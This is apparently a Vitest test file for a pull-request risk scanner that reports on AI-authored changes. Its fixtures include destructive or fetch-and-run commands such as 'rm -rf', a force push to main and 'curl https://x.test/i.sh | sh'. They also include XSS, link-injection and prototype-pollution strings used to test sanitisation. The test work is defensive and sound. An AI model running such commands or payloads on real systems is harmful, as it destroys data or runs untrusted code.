import { describe, expect, it } from "vitest";
import {
  compareReports,
  comparisonBase,
  digestBlock,
  digestOf,
  findingKey,
  readDigest,
} from "../../src/format/changes.js";
import { diffAnchor, findingHref } from "../../src/format/links.js";
import { formatMarkdown, topFindings } from "../../src/format/markdown.js";
import type { Finding, Report } from "../../src/types.js";
import { markdownToHtml } from "../render/gfm.js";
import { addedFile, deletedFile, modifiedFile, scan } from "../support/diff.js";

const PULL = "https://github.com/o/r/pull/7";

const finding = (over: Partial<Finding>): Finding => ({
  ruleId: "custom/x",
  category: "custom",
  severity: "high",
  file: "a.txt",
  line: 1,
  side: "new",
  message: "m",
  remediation: "r",
  ...over,
});

async function exampleish(): Promise<Report> {
  return scan(
    addedFile("infra/production/db.tf", [
      'resource "aws_db_instance" "main" {',
      "  deletion_protection = false",
      "  skip_final_snapshot = true",
      "}",
    ]) +
      addedFile("scripts/cleanup.sh", ["#!/bin/sh", "rm -rf $BUILD_DIR/*", "git push --force origin HEAD:main"]) +
      modifiedFile(
        ".github/workflows/ci.yml",
        [
          "-      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683",
          "+      - uses: actions/checkout@v4",
        ],
        9,
      ),
    { pr: { author_login: "devin-ai-integration[bot]", author_type: "Bot", body: "" } },
  );
}

/** Links and tags of the rendered HTML (what GitHub would make of the Markdown). */
function rendered(md: string): { hrefs: string[]; html: string } {
  const html = markdownToHtml(md);
  return { hrefs: [...html.matchAll(/<a [^>]*href="([^"]*)"/g)].map((m) => m[1]!), html };
}

describe("finding links", () => {
  it("go to the PR's Files changed view at the line, left side for removed lines", () => {
    const f = { file: "src/a b.ts", line: 12, side: "new" as const };
    expect(findingHref(f, { pullUrl: PULL })).toBe(`${PULL}/files#${diffAnchor("src/a b.ts")}R12`);
    expect(findingHref({ ...f, side: "old" }, { pullUrl: PULL })).toBe(`${PULL}/files#${diffAnchor("src/a b.ts")}L12`);
    expect(findingHref({ ...f, line: null }, { pullUrl: PULL })).toBe(`${PULL}/files#${diffAnchor("src/a b.ts")}`);
  });

  it("fall back to blob links at the head (base for removed lines), and to none without commits", () => {
    const base = { repoUrl: "https://github.com/o/r", headSha: "a".repeat(40), baseSha: "b".repeat(40) };
    const f = { file: "d/(x).md", line: 3, side: "new" as const };
    expect(findingHref(f, base)).toBe(`https://github.com/o/r/blob/${"a".repeat(40)}/d/%28x%29.md#L3`);
    expect(findingHref({ ...f, side: "old" }, base)).toContain(`/blob/${"b".repeat(40)}/`);
    expect(findingHref({ ...f, side: "old" }, { ...base, baseSha: undefined })).toBeNull();
    expect(findingHref(f, {})).toBeNull();
  });

  it("never build a link from a base that is not a GitHub URL", () => {
    const f = { file: "a", line: 1, side: "new" as const };
    for (const pullUrl of ["javascript:alert(1)//pull/1", `${PULL})[x](https://evil.test`, `${PULL} "t"`])
      expect(findingHref(f, { pullUrl })).toBeNull();
    expect(findingHref(f, { repoUrl: "https://github.com/o/r", headSha: "HEAD)[x](y" })).toBeNull();
  });
});

describe("the risk comment", () => {
  it("answers first: verdict, who acts, rollback, the three most severe findings of distinct rules", async () => {
    const report = await exampleish();
    const md = formatMarkdown(report, { pullUrl: PULL, routes: { "infra-change": { team: "acme/platform" } } });
    const top = md.slice(0, md.indexOf("<details>"));
    expect(top).toMatch(/^## .* AI Review Gate: risk \*\*critical\*\*/);
    expect(top).toContain("**Why:**");
    expect(top).toMatch(
      /\*\*Who must act:\*\* \d+ distinct human approvers?.*`@acme\/platform` ticks Infrastructure changes/,
    );
    expect(top).toContain("**Rollback plan**");
    const picks = topFindings(report.findings);
    expect(picks).toHaveLength(3);
    expect(new Set(picks.map((f) => f.ruleId)).size).toBe(3);
    expect(top.match(/^\d\. /gm)).toHaveLength(3);
    // Everything else is folded.
    expect(md).not.toContain("<details open>");
  });

  it("picks another rule's finding over a repeat only when it is as severe", () => {
    const a1 = finding({ ruleId: "custom/a", severity: "critical", line: 1 });
    const a2 = finding({ ruleId: "custom/a", severity: "critical", line: 2 });
    const b = finding({ ruleId: "custom/b", severity: "critical", line: 3 });
    const a3 = finding({ ruleId: "custom/a", severity: "critical", line: 4 });
    const c = finding({ ruleId: "custom/c", severity: "low", line: 5 });
    expect(topFindings([a1, a2, b, a3, c])).toEqual([a1, a2, b]);
    expect(topFindings([a1, a2, a3, b, c])).toEqual([a1, a2, b]);
    expect(topFindings([a1, a2, c])).toEqual([a1, a2, c]);
  });

  it("prints each rule's remediation once, with its findings under it, and folds long lists", () => {
    const findings = Array.from({ length: 8 }, (_, i) => finding({ line: i + 1, message: `hit ${i}` }));
    const report = {
      ...emptyReport(),
      findings,
      categories: [{ category: "custom" as const, severity: "high" as const, count: 8, files: ["a.txt"] }],
    };
    const md = formatMarkdown(report, { pullUrl: PULL });
    expect(md.split("· r").length - 1).toBe(1);
    expect(md).toContain("<details><summary>3 more</summary>");
    expect(rendered(md).hrefs.filter((h) => h.includes("/files#diff-")).length).toBe(8 + 3);
  });

  it("links every finding, removed lines included, and checklist items to the findings they cover", async () => {
    const report = await scan(
      deletedFile("db/migrate/1_x.sql", ["CREATE TABLE t (id int);"]) +
        modifiedFile("app/admin_controller.rb", ["-  before_action :authenticate_admin!", "   def index"], 2),
      { pr: { author_login: "devin-ai-integration[bot]", author_type: "Bot" } },
    );
    const md = formatMarkdown(report, { pullUrl: PULL });
    const { hrefs } = rendered(md);
    for (const f of report.findings) {
      const side = f.line === null ? "" : `${f.side === "old" ? "L" : "R"}${f.line}`;
      expect(hrefs).toContain(`${PULL}/files#${diffAnchor(f.file)}${side}`);
    }
    const checklist = md.slice(md.indexOf("Review checklist"));
    expect(checklist).toMatch(/covers \[`/);
  });

  it("shows code spans of remediations as written and no entity or markup from hostile names", () => {
    const hostile = [
      "a`b``c.txt",
      "&#x202E;evil&amp;.txt",
      "https://evil.test/x.txt",
      "www.evil.test/y.txt",
      "<img src=x onerror=alert(1)>.md",
      "x](https://evil.test)[y.md",
      "@octo-org/admins.md",
    ];
    const report = {
      ...emptyReport(),
      findings: hostile.map((file, i) =>
        finding({ file, line: i + 1, message: `in ${file}`, remediation: "Pin it: `@<sha> # v4.2.0` & <b>x</b>" }),
      ),
      categories: [{ category: "custom" as const, severity: "high" as const, count: hostile.length, files: hostile }],
    };
    const md = formatMarkdown(report, { pullUrl: PULL });
    const { hrefs, html } = rendered(md);
    expect(hrefs.every((h) => h.startsWith(`${PULL}/files#diff-`))).toBe(true);
    expect(html).not.toMatch(/<img|<b>x/);
    expect(html).toContain("<code>@&#x3C;sha> # v4.2.0</code>");
    expect(html).not.toContain("&#x202E;evil");
    expect(md).not.toMatch(/in @octo-org/);
    for (const file of hostile) expect(html).toContain(`<code>${escapeHtml(file)}:`);
  });

  it("stays under GitHub's limit with about 300 findings, and keeps its digest", () => {
    const findings = Array.from({ length: 320 }, (_, i) =>
      finding({ ruleId: `custom/r${i % 7}`, file: `services/svc${i}/a/very/long/path/to/some/file.rb`, line: i + 1 }),
    );
    const report = {
      ...emptyReport(),
      findings,
      categories: [{ category: "custom" as const, severity: "high" as const, count: 320, files: [] }],
    };
    const md = formatMarkdown(report, { pullUrl: PULL, digest: true, marker: "<!-- m -->" });
    expect(md.length).toBeLessThan(65_536);
    const digest = readDigest(md);
    expect(digest.kind).toBe("ok");
  });
});

describe("what changed since the last report", () => {
  it("tells new, resolved and unchanged findings apart across a push that moves lines", async () => {
    const before = await exampleish();
    const moved = await scan(
      addedFile("infra/production/db.tf", [
        "# a comment added above",
        'resource "aws_db_instance" "main" {',
        "  deletion_protection = false",
        "}",
      ]) + addedFile("scripts/cleanup.sh", ["#!/bin/sh", "rm -rf $BUILD_DIR/*", "curl https://x.test/i.sh | sh"]),
      { pr: { author_login: "devin-ai-integration[bot]", author_type: "Bot", body: "" } },
    );
    const previous = digestOf(before, "a".repeat(40));
    const c = compareReports(previous, moved);
    expect(c.unchanged).toBeGreaterThan(0);
    const resolvedRules = c.resolved.map((r) => r.ruleId);
    expect(resolvedRules).toContain("destructive-command/git-history-rewrite");
    expect(c.added.length + c.unchanged).toBe(moved.findings.length);
    const md = formatMarkdown(moved, { pullUrl: PULL, previous });
    expect(md).toMatch(/\*\*Since the last report \(at `aaaaaaa`\):\*\* 🆕 \d+ new · ✔️ \d+ resolved · \d+ unchanged/);
    expect(md).toContain("Resolved since then:");
    if (c.added.length > 0) expect(md).toContain("🆕 [`");
  });

  it("says whether the level moved", () => {
    const report = { ...emptyReport(), risk: { score: 70, level: "high" as const, explanation: [] } };
    const md = formatMarkdown(report, { previous: { level: "medium", score: 40, rules: {}, partial: false } });
    expect(md).toContain("risk medium 40 → **high 70**");
  });

  it("compares a re-run at the same head against what the last report compared against", () => {
    const older = digestOf({ ...emptyReport(), findings: [finding({ message: "old" })] }, "a".repeat(40));
    const last = digestOf({ ...emptyReport(), findings: [finding({})] }, "b".repeat(40), older);
    expect(comparisonBase(last, "c".repeat(40))).toEqual(
      digestOf({ ...emptyReport(), findings: [finding({})] }, "b".repeat(40)),
    );
    expect(comparisonBase(last, "b".repeat(40))).toEqual(older);
    expect(comparisonBase(digestOf(emptyReport(), "b".repeat(40)), "b".repeat(40))).toBeNull();
    expect(comparisonBase(null, "b".repeat(40))).toBeNull();
  });

  it("identifies a finding by rule, side, file and message, not by its line", () => {
    const f = finding({ message: "on line 12" });
    expect(findingKey({ ...f, message: "on line 13" })).toBe(findingKey(f));
    expect(findingKey({ ...f, file: "b.txt" })).not.toBe(findingKey(f));
    expect(findingKey({ ...f, side: "old" })).not.toBe(findingKey(f));
  });

  it("reads the digest back, and treats a hand-edited or forged one as unreadable", () => {
    const digest = digestOf({ ...emptyReport(), findings: [finding({})] }, "c".repeat(40));
    const block = digestBlock(digest);
    expect(readDigest(`hello\n${block}\n`)).toEqual({ kind: "ok", digest });
    expect(readDigest("no block")).toEqual({ kind: "none" });
    const forge = (value: unknown) =>
      `<!-- ai-review-gate:digest v1 ${Buffer.from(typeof value === "string" ? value : JSON.stringify(value)).toString("base64url")} -->`;
    const hostile = [
      `${block}\n${block}`, // two blocks: which one is real?
      "<!-- ai-review-gate:digest v1 not*base64 -->",
      "<!-- ai-review-gate:digest v1 e30 -->", // {}
      `<!-- ai-review-gate:digest v1 ${"A".repeat(60_000)} -->`,
      "<!-- ai-review-gate:digest v1 eyJsZXZlbCI6", // never closed
      forge({ ...digest, level: "catastrophic" }),
      forge({ ...digest, score: 1e9 }),
      forge({ ...digest, head: "x<img>" }),
      forge({ ...digest, rules: { "custom/x": "zz" } }),
      forge({ ...digest, rules: { "custom/x": ["0123456789ab"] } }),
      forge({ ...digest, rules: { "](https://evil.test)": "0123456789ab" } }),
      forge({ ...digest, rules: { "custom/x": "0123456789ab".repeat(1_001) } }),
      forge({ ...digest, rules: { "custom/x": "0123456789ab".repeat(600), "custom/y": "0123456789ab".repeat(600) } }),
      forge({ ...digest, base: { ...digest, base: digest } }),
      forge({ ...digest, extra: 1 }),
      forge(`{"__proto__":{"polluted":true},${JSON.stringify(digest).slice(1)}`),
    ];
    for (const body of hostile) expect(readDigest(body).kind, body.slice(0, 80)).toBe("invalid");
    // An unreadable digest is said so, and nothing of it is shown.
    const md = formatMarkdown(emptyReport(), { previousUnreadable: true });
    expect(md).toContain("could not be read");
  });
});

function escapeHtml(s: string): string {
  return s.replace(/&/g, "&#x26;").replace(/</g, "&#x3C;");
}

function emptyReport(): Report {
  return {
    version: 1,
    risk: { score: 60, level: "high", explanation: ["x"] },
    ai: { detected: true, agents: ["devin"], confidence: "certain", evidence: [], commitShare: null },
    findings: [],
    gate: { required: true, reason: "because", checklist: [], approvals: 1 },
    categories: [],
    stats: { files: 1, additions: 1, deletions: 0 },
    notAnalyzed: [],
    warnings: [],
  };
}
